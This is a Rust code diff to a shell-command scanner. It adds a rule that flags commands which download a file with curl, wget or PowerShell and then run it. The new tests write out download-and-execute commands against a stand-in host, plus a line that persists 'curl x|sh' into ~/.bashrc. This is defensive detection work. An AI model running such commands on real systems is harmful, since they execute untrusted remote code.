@@ -138,6 +138,8 @@ fn scan_nested(command: &str, line: u32, depth: usize, result: &mut ShellScan) {
     }
     let commands = split(command);
     let mut previous: Option<(String, bool)> = None;
+    // Files a download tool saved earlier on the line (`curl -o x.exe URL && x.exe`).
+    let mut downloaded: Vec<String> = Vec::new();
     for simple in &commands {
         for substitution in simple.words.iter().flat_map(|w| substitutions(w)) {
             scan_nested(&substitution, line, depth + 1, result);
@@ -158,10 +160,69 @@ fn scan_nested(command: &str, line: u32, depth: usize, result: &mut ShellScan) {
                 piped_into(from, *decodes, &program, line, result);
             }
         }
+        if let Some(file) = runs_a_download(&program, args, &downloaded) {
+            result.hits.push(Hit::new(
+                Rule::DownloadExec,
+                Severity::High,
+                line,
+                format!("downloads `{file}` and runs it"),
+            ));
+        }
+        if DOWNLOAD_TOOLS.contains(&program.as_str()) {
+            downloaded.extend(saved_file(args, &simple.redirects));
+        }
         examine(&program, args, simple, line, depth, result);
         let decodes = program == "base64" && args.iter().any(|a| a == "-d" || a == "--decode");
         previous = Some((program, decodes));
     }
+}
+
+/// The file name (without folders, lower case) a download command saves to: `-o F`,
+/// `--output F`, `-O F` (wget), `-OutFile F` (PowerShell), `> F`.
+fn saved_file(args: &[String], redirects: &[String]) -> Option<String> {
+    let flagged = args.windows(2).find_map(|pair| {
+        let flag = pair[0].to_ascii_lowercase();
+        matches!(
+            flag.as_str(),
+            "-o" | "--output" | "-outfile" | "--output-document"
+        )
+        .then(|| pair[1].clone())
+    });
+    let file = flagged.or_else(|| redirects.first().cloned())?;
+    let name = base_name(&file);
+    (!name.is_empty() && name != "-" && name != "/dev/null").then_some(name)
+}
+
+fn base_name(path: &str) -> String {
+    path.trim_matches(['"', '\''])
+        .rsplit(['/', '\\'])
+        .next()
+        .unwrap_or_default()
+        .to_ascii_lowercase()
+}
+
+/// The downloaded file a command starts: as the program itself (`x.exe`, `./x`), or
+/// handed to a launcher or interpreter (`start x.exe`, `sh x.sh`, `python x.py`).
+fn runs_a_download(program: &str, args: &[String], downloaded: &[String]) -> Option<String> {
+    if downloaded.is_empty() {
+        return None;
+    }
+    if downloaded.iter().any(|d| d == program) {
+        return Some(program.to_owned());
+    }
+    let launches = INTERPRETERS.contains(&program)
+        || matches!(
+            program,
+            "start" | "cmd" | "start-process" | "open" | "xdg-open"
+        );
+    if !launches {
+        return None;
+    }
+    args.iter()
+        // `cmd /c x.exe`: `/c` is a switch, `/tmp/x.sh` a path.
+        .filter(|a| !a.starts_with('-') && !(a.starts_with('/') && a.len() <= 3))
+        .map(|a| base_name(a))
+        .find(|a| downloaded.contains(a))
 }
 
 fn piped_into(from: &str, decodes: bool, program: &str, line: u32, result: &mut ShellScan) {
@@ -487,6 +548,28 @@ mod tests {
         );
         let p = scan("echo 'curl x|sh' >> ~/.bashrc 2>&1", 1);
         assert_eq!(rules(&p), [Rule::WriteOutside]);
+    }
+
+    #[test]
+    fn saved_download_then_started_is_download_exec() {
+        let windows = scan(
+            "cd C:/ && curl -s https://x.example/a.exe -o a.exe && a.exe",
+            1,
+        );
+        assert!(rules(&windows).contains(&Rule::DownloadExec), "{windows:?}");
+        let shell = scan(
+            "wget -q https://x.example/i.sh -O /tmp/i.sh; sh /tmp/i.sh",
+            1,
+        );
+        assert!(rules(&shell).contains(&Rule::DownloadExec), "{shell:?}");
+        let unpacked = scan(
+            "curl -L https://x.example/t.tar.gz -o t.tar.gz && tar xzf t.tar.gz",
+            1,
+        );
+        assert!(
+            !rules(&unpacked).contains(&Rule::DownloadExec),
+            "{unpacked:?}"
+        );
     }
 
     #[test]
